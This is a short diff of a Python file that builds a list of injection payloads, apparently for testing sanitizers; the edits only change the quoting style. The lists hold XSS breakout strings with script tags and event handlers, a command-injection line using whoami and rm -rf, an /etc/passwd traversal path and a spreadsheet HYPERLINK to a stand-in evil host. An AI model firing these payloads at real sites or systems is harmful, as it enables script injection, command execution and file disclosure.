@@ -55,14 +55,14 @@ _VECTORS = [
     f"--><script>{_ACT}</script><!--",
 ]
 _BREAKOUTS = [
-    f"\"><script>{_ACT}</script>",
+    f'"><script>{_ACT}</script>',
     f"'><script>{_ACT}</script>",
-    f"\" onmouseover=\"{_ACT}\" x=\"",
+    f'" onmouseover="{_ACT}" x="',
     f"' onmouseover='{_ACT}' x='",
     f"` onmouseover=`{_ACT}`",
-    f"\" autofocus onfocus=\"{_ACT}\" tabindex=\"1",
-    f"\" style=\"background:url({_LOAD})",
-    f"x\" onload=\"{_ACT}",
+    f'" autofocus onfocus="{_ACT}" tabindex="1',
+    f'" style="background:url({_LOAD})',
+    f'x" onload="{_ACT}',
     f"</title><script>{_ACT}</script>",
     f"</style><script>{_ACT}</script>",
     f"</textarea><script>{_ACT}</script>",
@@ -111,7 +111,7 @@ _TEMPLATES = [
     "`whoami` $(whoami) ; rm -rf x | y",
     "../../../../etc/passwd",
     "C:\\Windows\\system32\\x",
-    "=HYPERLINK(\"http://evil.invalid\")",
+    '=HYPERLINK("http://evil.invalid")',
     "figure-in-page",
     "figure-in-page-title",
     "url(#figure-in-page)",
@@ -163,6 +163,6 @@ _LONG = [
     f"<script>{_ACT}</script>" * 6,
 ]
 _KINDS = _TAGS + _VECTORS + _BREAKOUTS + _STYLES + _TEMPLATES + _SIGNS + _LONG
-_WRAPPED = [f"{before}{one}{after}" for before, after in (("x ", " y"), ("\">", "<\"")) for one in _TAGS + _VECTORS]
+_WRAPPED = [f"{before}{one}{after}" for before, after in (("x ", " y"), ('">', '<"')) for one in _TAGS + _VECTORS]
 
 PAYLOADS = tuple(dict.fromkeys(_KINDS + _WRAPPED))[:200]
